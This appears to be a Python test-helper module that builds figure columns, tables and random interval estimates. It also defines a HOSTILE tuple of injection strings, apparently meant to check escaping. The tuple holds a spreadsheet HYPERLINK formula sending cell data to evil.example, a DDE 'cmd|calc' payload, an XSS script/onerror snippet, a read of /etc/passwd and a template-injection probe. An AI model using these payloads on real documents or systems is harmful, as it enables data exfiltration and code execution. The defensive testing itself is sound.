"""The pieces of figures made by hand: columns, tables, numbers, harmful words."""

from collections.abc import Sequence
from random import Random

from tutor.domain.figures import Cell, Column, ColumnKind, Estimate, Table

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1;"cliquez")',
    "+33 6 00 00 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '#read("/etc/passwd") $ \\ ` [*_ #image("x") http://evil.example',
    "{{ 7 * 7 }} {% raw %}",
    "ligne\nsuivante ; \"guillemets\" 'un' \x07\u202e",
)  # fmt: skip


def columns(**kinds: ColumnKind) -> tuple[Column, ...]:
    """Return columns by their ids; an underscore stands for a hyphen."""
    return tuple(Column(id=name.replace("_", "-"), kind=kinds[name]) for name in kinds)


def table(
    table_id: str, heads: tuple[Column, ...], rows: Sequence[Sequence[Cell]]
) -> Table:
    """Return a table."""
    return Table(id=table_id, columns=heads, rows=tuple(map(tuple, rows)))


def share(chance: Random, people: int, width: float = 0.1) -> Estimate:
    """Return a share with an interval of about that half-width."""
    value = chance.uniform(0.2, 0.9)
    low, high = max(0.0, value - width), min(1.0, value + width)
    return Estimate(n=people, value=value, low=low, high=high)


def around(
    chance: Random, people: int, low: float, high: float, half: float
) -> Estimate:
    """Return a number between two, with an interval of that half-width."""
    value = chance.uniform(low, high)
    return Estimate(n=people, value=value, low=value - half, high=value + half)
